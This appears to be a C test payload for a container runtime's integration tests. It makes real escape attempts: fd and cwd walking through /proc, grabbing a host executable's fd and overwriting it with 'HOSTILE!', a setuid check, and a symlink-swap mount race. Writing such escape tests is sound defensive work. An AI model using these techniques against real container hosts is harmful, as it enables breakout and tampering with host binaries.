// SPDX-License-Identifier: Apache-2.0
/*
 * What a hostile container does to escape (tests/integration/1[5-9]-*.sh):
 * a static payload, run inside a container (or on the host as the other end
 * of a socket).  Each mode tries one attack for real, bounded in time, and
 * prints what happened.
 *
 *   ctw-hostile fdwalk PATH SECS
 *       Watch /proc for processes of ours that are not us and walk `..` from
 *       every directory their /proc/PID/{fd/N,cwd,root} reaches: prints
 *       "escaped PID LINK" when PATH (a host path, relative to the host's /)
 *       shows up there, else "contained" after SECS.
 *   ctw-hostile grab-exe SOCKET SECS
 *       Watch /proc for a process whose /proc/PID/exe is not a file of the
 *       container (not on its root filesystem, not us): open it O_PATH and
 *       send that fd over the unix socket SOCKET.  Prints "sent PID" or
 *       "none".
 *   ctw-hostile recv-write SOCKET SECS
 *       Listen on SOCKET, take one fd, and try to open it for writing until
 *       the file is no longer busy: prints "overwritten" when the write went
 *       through (the first 8 bytes of the file are then "HOSTILE!"), else the
 *       errno name (EROFS, EPERM, ETXTBSY when still busy after SECS).
 *   ctw-hostile euid - 0
 *       Print "euid=N": what a planted setuid copy of this program runs as.
 *   ctw-hostile swap DIR SECS
 *       Swap DIR/sub between a directory and a symlink to "/" as fast as
 *       possible (renameat2 RENAME_EXCHANGE) for SECS: the other half of a
 *       mount target race.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>

static const char *errname(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Walk up from the directory dfd far enough to pass any root, then look
 * for rel: true when it is there (we left our root). */
static bool escaped_from(int dfd, const char *rel)
{
	char p[4096];
	int n = 0;
	for (int i = 0; i < 40; i++)
		n += snprintf(p + n, sizeof(p) - (size_t)n, "../");
	snprintf(p + n, sizeof(p) - (size_t)n, "%s", rel);
	return faccessat(dfd, p, F_OK, 0) == 0;
}

static bool try_link(const char *link, const char *rel)
{
	int fd = open(link, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return false;
	bool e = escaped_from(fd, rel);
	close(fd);
	return e;
}

/* Call fn(pid, arg) for every other process, over and over, until it
 * returns non-zero (returned) or secs pass (0). */
static int each_pid(double secs, int (*fn)(int pid, void *arg), void *arg)
{
	int self = getpid(), r = 0;
	double end = now() + secs;
	while (!r && now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *de;
		while (!r && proc && (de = readdir(proc))) {
			int pid = atoi(de->d_name);
			if (pid > 0 && pid != self)
				r = fn(pid, arg);
		}
		if (proc)
			closedir(proc);
	}
	return r;
}

static int walk_pid(int pid, void *rel)
{
	char link[512];
	static const char *const fixed[] = {"cwd", "root"};
	for (int i = 0; i < 2; i++) {
		snprintf(link, sizeof(link), "/proc/%d/%s", pid, fixed[i]);
		if (try_link(link, rel)) {
			printf("escaped %d %s\n", pid, fixed[i]);
			return 1;
		}
	}
	char fddir[64];
	snprintf(fddir, sizeof(fddir), "/proc/%d/fd", pid);
	DIR *fds = opendir(fddir);
	struct dirent *fe;
	int r = 0;
	while (!r && fds && (fe = readdir(fds))) {
		if (fe->d_name[0] == '.')
			continue;
		snprintf(link, sizeof(link), "%s/%s", fddir, fe->d_name);
		if (try_link(link, rel)) {
			printf("escaped %d fd/%s\n", pid, fe->d_name);
			r = 1;
		}
	}
	if (fds)
		closedir(fds);
	return r;
}

static int fdwalk(const char *path, double secs)
{
	const char *rel = path[0] == '/' ? path + 1 : path;
	if (each_pid(secs, walk_pid, (void *)rel))
		return 0;
	printf("contained\n");
	return 1;
}

static int unix_socket(const char *path, bool listen_on)
{
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	if (s < 0)
		return -1;
	if (listen_on) {
		unlink(path);
		if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
			return -1;
		return s;
	}
	return connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 ? -1 : s;
}

static int send_fd(int s, int fd)
{
	char c = 'x';
	struct iovec iov = {.iov_base = &c, .iov_len = 1};
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	memset(&u, 0, sizeof(u));
	struct msghdr mh = {.msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf)};
	struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	return sendmsg(s, &mh, 0) == 1 ? 0 : -1;
}

static int recv_fd(int s)
{
	char c;
	struct iovec iov = {.iov_base = &c, .iov_len = 1};
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	struct msghdr mh = {.msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf)};
	if (recvmsg(s, &mh, 0) != 1)
		return -1;
	struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
	if (!cm || cm->cmsg_type != SCM_RIGHTS)
		return -1;
	int fd;
	memcpy(&fd, CMSG_DATA(cm), sizeof(int));
	return fd;
}

struct grab {
	const char *sock;
	struct stat me, root;
};

static int grab_pid(int pid, void *arg)
{
	struct grab *g = arg;
	char link[64];
	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	int fd = open(link, O_PATH | O_CLOEXEC);
	struct stat st;
	if (fd < 0)
		return 0;
	if (fstat(fd, &st) < 0 || (st.st_dev == g->me.st_dev && st.st_ino == g->me.st_ino) ||
	    st.st_dev == g->root.st_dev) {
		close(fd);
		return 0;
	}
	int s = unix_socket(g->sock, false);
	if (s < 0 || send_fd(s, fd) < 0) {
		printf("send: %s\n", errname(errno));
		return 2;
	}
	printf("sent %d\n", pid);
	return 1;
}

static int grab_exe(const char *sock, double secs)
{
	struct grab g = {.sock = sock};
	if (stat("/proc/self/exe", &g.me) < 0 || stat("/", &g.root) < 0)
		return 2;
	int r = each_pid(secs, grab_pid, &g);
	if (r)
		return r == 1 ? 0 : r;
	printf("none\n");
	return 1;
}

static int recv_write(const char *sock, double secs)
{
	int l = unix_socket(sock, true);
	if (l < 0) {
		printf("listen: %s\n", errname(errno));
		return 2;
	}
	printf("listening\n");
	fflush(stdout);
	alarm((unsigned)secs + 1); /* nothing sent: die rather than hang */
	int c = accept4(l, NULL, NULL, SOCK_CLOEXEC);
	alarm(0);
	int fd = c < 0 ? -1 : recv_fd(c);
	if (fd < 0) {
		printf("recv: %s\n", errname(errno));
		return 2;
	}
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	double end = now() + secs;
	int e = 0;
	while (now() < end) {
		int w = open(self, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			ssize_t n = pwrite(w, "HOSTILE!", 8, 0);
			e = n == 8 ? 0 : errno;
			close(w);
			if (!e) {
				printf("overwritten\n");
				return 0;
			}
			break;
		}
		e = errno;
		if (e != ETXTBSY)
			break;
		usleep(10000);
	}
	printf("%s\n", errname(e));
	return 1;
}

static int swap(const char *dir, double secs)
{
	char sub[4096], alt[4096];
	snprintf(sub, sizeof(sub), "%s/sub", dir);
	snprintf(alt, sizeof(alt), "%s/alt", dir);
	if ((mkdir(sub, 0755) < 0 && errno != EEXIST) || (symlink("/", alt) < 0 && errno != EEXIST))
		return 2;
	unsigned long n = 0;
	double end = now() + secs;
	while (now() < end) {
		for (int i = 0; i < 1000; i++, n++)
			syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, alt,
				2 /* RENAME_EXCHANGE */);
	}
	printf("swapped %lu\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 4) {
		fprintf(stderr,
			"usage: ctw-hostile fdwalk|grab-exe|recv-write|euid|swap ARG SECS\n");
		return 2;
	}
	double secs = atof(argv[3]);
	if (!strcmp(argv[1], "fdwalk"))
		return fdwalk(argv[2], secs);
	if (!strcmp(argv[1], "grab-exe"))
		return grab_exe(argv[2], secs);
	if (!strcmp(argv[1], "recv-write"))
		return recv_write(argv[2], secs);
	if (!strcmp(argv[1], "euid")) {
		printf("euid=%d\n", (int)geteuid());
		return 0;
	}
	if (!strcmp(argv[1], "swap"))
		return swap(argv[2], secs);
	fprintf(stderr, "ctw-hostile: unknown mode %s\n", argv[1]);
	return 2;
}
